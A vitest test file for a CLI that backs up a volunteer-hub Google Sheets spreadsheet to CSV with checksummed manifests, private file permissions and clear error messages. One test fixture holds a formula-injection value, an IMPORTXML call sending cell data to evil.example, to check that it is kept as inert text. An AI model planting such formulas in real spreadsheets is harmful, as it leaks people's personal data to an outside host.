/// <reference types="google-apps-script" />
import { describe, it, expect } from 'vitest';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { readCsv } from '../../../cli/src/core/csv';
import { spreadsheetsIn } from '../../../cli/src/core/drive-files';
import { connect } from '../../../cli/src/core/google-clients';
import { readManifest, sha256 } from '../../../cli/src/core/manifest';
import { runCli } from '../../../cli/src/main';
import { asLead } from '../../apps-script/as-lead';
import { cfpFolder } from '../cfp-folder';
import { testRun } from '../cli-fixture';
import { addHostileCells, HOSTILE_NOTES } from '../hostile-cells';
import { requestsSince, servedDemoCil, type ServedCil } from '../served-cil';

// `cil backup` against the sandbox's Sheets and Drive APIs.

async function backUp(served: ServedCil, source: string, ...options: string[]) {
  const run = testRun();
  const before = { ...served.server.requests.byMethod };
  const exit = await runCli(['backup', source, '--out', 'backup', '--sandbox', served.server.rootUrl, ...options], run.ctx);
  return { run, exit, folder: join(run.ctx.cwd, 'backup'), requests: requestsSince(served, before) };
}

describe('cil backup', { timeout: 30_000 }, () => {
  it('writes every tab to CSV with one read of all its values, and a manifest with checksums', async () => {
    const served = await servedDemoCil();
    const { run, exit, folder, requests } = await backUp(served, `https://docs.google.com/spreadsheets/d/${served.spreadsheetId}/edit#gid=0`);
    expect(exit, run.stderr()).toBe(0);
    expect(requests).toEqual({ 'drive.files.get': 1, 'sheets.spreadsheets.get': 1, 'sheets.spreadsheets.values.batchGet': 1 });

    const manifest = readManifest(folder);
    expect(manifest).toMatchObject({
      format: 'cil-hub-backup/1',
      createdAt: '2026-11-27T05:00:00.000Z',
      source: { id: served.spreadsheetId, name: 'CIL Demo — CIL Hub', kind: 'spreadsheet' },
      render: { valueRenderOption: 'FORMULA', dateTimeRenderOption: 'SERIAL_NUMBER' },
    });
    const [spreadsheet] = manifest.spreadsheets;
    const sheets = served.sandbox.state.spreadsheets[served.spreadsheetId]!.sheets;
    expect(spreadsheet!.tabs.map((tab) => [tab.title, tab.sheetId, tab.rowCount])).toEqual(sheets.map((sheet) => [sheet.name, sheet.sheetId, sheet.values.length]));
    const hours = spreadsheet!.tabs.find((tab) => tab.title === 'Hours')!;
    expect(hours).toMatchObject({ idHeader: 'Entry ID', rowCount: sheets.find((sheet) => sheet.name === 'Hours')!.values.length, columnCount: 9, headers: ['Entry ID', 'Volunteer ID', 'Day', 'Hours', 'Category', 'Project ID', 'Note', 'Source', 'Logged at'] });
    expect(spreadsheet!.tabs.find((tab) => tab.title === 'Settings')!.idHeader).toBe('Setting');
    expect(spreadsheet!.tabs.find((tab) => tab.title === 'Dashboard')!.idHeader).toBeNull();
    for (const tab of spreadsheet!.tabs) expect(sha256(readFileSync(join(folder, tab.file)))).toBe(tab.sha256);

    // Dates are serial numbers of days, in the spreadsheet's time zone: 46353 is 27 November 2026.
    const [, first] = readCsv(readFileSync(join(folder, hours.file), 'utf8'));
    expect(Number(first![2])).toBeGreaterThan(46_000);
    const rowsBelowHeaders = sheets.reduce((total, sheet) => total + Math.max(0, sheet.values.length - 1), 0);
    expect(run.stdout()).toBe(`Backed up to ${folder}:\n  CIL Demo — CIL Hub (${served.spreadsheetId}): ${sheets.length} tabs, ${rowsBelowHeaders} rows below the headers\n`);
  });

  it("keeps the backup to its maker: folders 0700, files 0600 (it holds volunteers' personal data)", async () => {
    const served = await servedDemoCil();
    const { run, exit, folder } = await backUp(served, served.spreadsheetId);
    expect(exit, run.stderr()).toBe(0);
    const manifest = readManifest(folder);
    const mode = (path: string) => statSync(path).mode & 0o777;
    expect(mode(folder)).toBe(0o700);
    expect(mode(join(folder, 'manifest.json'))).toBe(0o600);
    for (const tab of manifest.spreadsheets[0]!.tabs) {
      expect(mode(join(folder, tab.file))).toBe(0o600);
      expect(mode(join(folder, tab.file, '..'))).toBe(0o700);
    }
  });

  it('keeps hostile text as text, readable in the CSV, reading it again only where it starts with = or an apostrophe', async () => {
    const served = await servedDemoCil();
    addHostileCells(served);
    const { exit, folder, requests } = await backUp(served, served.spreadsheetId);
    expect(exit).toBe(0);
    expect(requests['sheets.spreadsheets.values.batchGet']).toBe(2);
    const tabs = readManifest(folder).spreadsheets[0]!.tabs;
    const volunteers = readCsv(readFileSync(join(folder, tabs.find((tab) => tab.title === 'Volunteers')!.file), 'utf8'));
    const notes = volunteers[0]!.indexOf('Notes');
    expect(volunteers.slice(1, 1 + HOSTILE_NOTES.length).map((row) => row[notes])).toEqual([
      `'=IMPORTXML("http://evil.example/steal?d="&A2,"//a")`,
      "''starts with an apostrophe",
      'commas, "double quotes", and\nnew\r\nlines',
      'emoji 🙂🇵🇰 and اردو',
      '+92 300 1234567',
      '0012',
      "'TRUE",
      "'=1+1",
    ]);
    const own = readFileSync(join(folder, tabs.find((tab) => tab.title === "Lead's notes")!.file), 'utf8');
    expect(own).toBe('Note,Count,Done\r\n"first, with a comma",3,TRUE\r\nsecond,2.75,FALSE\r\n=COUNTA(Volunteers!A2:A),=SUM(B2:B3)*2,\r\n');
  });

  it('backs up every CIL spreadsheet in a folder and the folders below it, naming the others it skipped', async () => {
    const served = await servedDemoCil();
    const cfp = cfpFolder(served);
    const { run, exit, folder, requests } = await backUp(served, `https://drive.google.com/drive/folders/${cfp.folderId}`);
    expect(exit, run.stderr()).toBe(0);
    const manifest = readManifest(folder);
    expect(manifest.source).toEqual({ id: cfp.folderId, name: 'CfP CILs', kind: 'folder' });
    expect(manifest.spreadsheets.map((s) => s.id).sort()).toEqual([served.spreadsheetId, cfp.secondCilId].sort());
    expect(readdirSync(folder).sort()).toEqual([
      `cil-demo-cil-hub--${served.spreadsheetId}`,
      `cil-karachi-cil-hub--${cfp.secondCilId}`,
      'manifest.json',
    ].sort());
    expect(run.stdout()).toContain(`  skipped National rollup (${cfp.rollupId}): not a CIL spreadsheet\n`);
    expect(requests).toMatchObject({ 'drive.files.get': 1, 'sheets.spreadsheets.get': 3, 'sheets.spreadsheets.values.batchGet': 2 });

    const restoreRun = testRun();
    expect(await runCli(['restore', folder, '--to', cfp.secondCilId, '--dry-run', '--sandbox', served.server.rootUrl], restoreRun.ctx)).toBe(2);
    expect(restoreRun.problems()).toMatch(/^cil: This backup holds 2 spreadsheets; choose one with --from: /);
    const chosen = testRun();
    expect(await runCli(['restore', folder, '--to', cfp.secondCilId, '--from', 'CIL Karachi — CIL Hub', '--dry-run', '--sandbox', served.server.rootUrl], chosen.ctx)).toBe(0);
    expect(chosen.stdout()).toContain('  Hours: 0 to restore, 0 to overwrite, 204 left as they are');
  });

  it('lists a folder page by page', async () => {
    const served = await servedDemoCil();
    const cfp = cfpFolder(served);
    const google = connect(testRun().ctx, { sandbox: served.server.rootUrl }, []);
    const listing = async (pageSize?: number) => {
      const before = served.server.requests.byMethod['drive.files.list'] ?? 0;
      const found = await spreadsheetsIn(google, cfp.folderId, pageSize);
      return { ids: found.map((file) => file.id).sort(), lists: served.server.requests.byMethod['drive.files.list']! - before };
    };
    const onePerPage = await listing(1);
    const whole = await listing();
    expect(onePerPage.ids).toEqual([served.spreadsheetId, cfp.secondCilId, cfp.rollupId].sort());
    expect(whole.ids).toEqual(onePerPage.ids);
    expect(onePerPage.lists).toBeGreaterThan(whole.lists);
  });

  it('refuses a folder that is not empty, and says what an id names when it is not a spreadsheet or folder', async () => {
    const served = await servedDemoCil();
    const run = testRun();
    mkdirSync(join(run.ctx.cwd, 'backup'));
    writeFileSync(join(run.ctx.cwd, 'backup', 'old.csv'), 'x\r\n');
    expect(await runCli(['backup', served.spreadsheetId, '--out', 'backup', '--sandbox', served.server.rootUrl], run.ctx)).toBe(1);
    expect(run.problems()).toBe(`cil: --out ${join(run.ctx.cwd, 'backup')} is not empty; give a new or empty folder, so no earlier backup is mixed with this one.\n`);

    const missing = await backUp(served, '1NoSuchFileAnywhere000000000');
    expect(missing.exit).toBe(1);
    expect(missing.run.problems()).toBe('cil: Google Drive refused the request (404: File not found: 1NoSuchFileAnywhere000000000.); check the id (the part of the address after /d/ or /folders/) and that the signed-in account can open it.\n');
  });

  it('says when a folder holds no CIL spreadsheet, and leaves no backup folder behind', async () => {
    const served = await servedDemoCil();
    const folderId = asLead(
      served.sandbox,
      () => {
        const folder = DriveApp.createFolder('Not a CIL');
        DriveApp.getFileById(SpreadsheetApp.create('Budget').getId()).moveTo(folder);
        return folder.getId();
      },
      [],
    );
    const { run, exit, folder } = await backUp(served, folderId);
    expect(exit).toBe(1);
    expect(run.problems()).toBe(`cil: "Not a CIL" holds no CIL spreadsheet (none has CIL Hub's Volunteers and Settings tabs); nothing was backed up.\n`);
    expect(existsSync(folder)).toBe(false);
  });

  it('checks its command line', async () => {
    const run = testRun();
    expect(await runCli(['backup', 'abc'], run.ctx)).toBe(2);
    expect(run.problems()).toBe('cil: cil backup needs --out DIR, a new or empty folder for the backup.\n');
    const bad = testRun();
    expect(await runCli(['backup', 'not an id!', '--out', 'x', '--sandbox', 'http://127.0.0.1:9/'], bad.ctx)).toBe(2);
    expect(bad.problems()).toBe('cil: "not an id!" is not a spreadsheet or folder id, nor a Google Sheets or Drive address.\n');
  });
});
